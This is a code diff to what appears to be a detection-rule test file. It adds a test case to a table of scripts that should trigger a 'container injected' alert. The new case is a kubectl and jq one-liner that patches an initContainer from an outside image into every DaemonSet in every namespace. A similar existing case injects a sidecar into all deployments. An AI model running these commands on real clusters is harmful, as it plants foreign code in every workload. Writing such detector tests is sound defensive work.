@@ -30,6 +30,9 @@ indicatorTable(commandInjectedContainer, {
       '-c',
       `${PYTHON}for d in a.list_deployment_for_all_namespaces().items:\n  a.patch_namespaced_deployment(d.metadata.name, d.metadata.namespace, ${sidecar('docker.io/tracinglab/agent:1')})`,
     ),
+    'a list of containers that is put there': script(
+      'kubectl get ds -A -o json | jq -r \'.items[]|"\\(.metadata.namespace) \\(.metadata.name)"\' | while read ns n; do kubectl patch ds $n -n $ns --type=json -p=\'[{"op":"add","path":"/spec/template/spec/initContainers","value":[{"name":"i","image":"quay.io/tracinglab/init"}]}]\'; done',
+    ),
   },
   staysSilent: {
     'one workload': script(`kubectl -n shop patch deploy web -p '${sidecar('docker.io/tracinglab/agent:1')}'`),
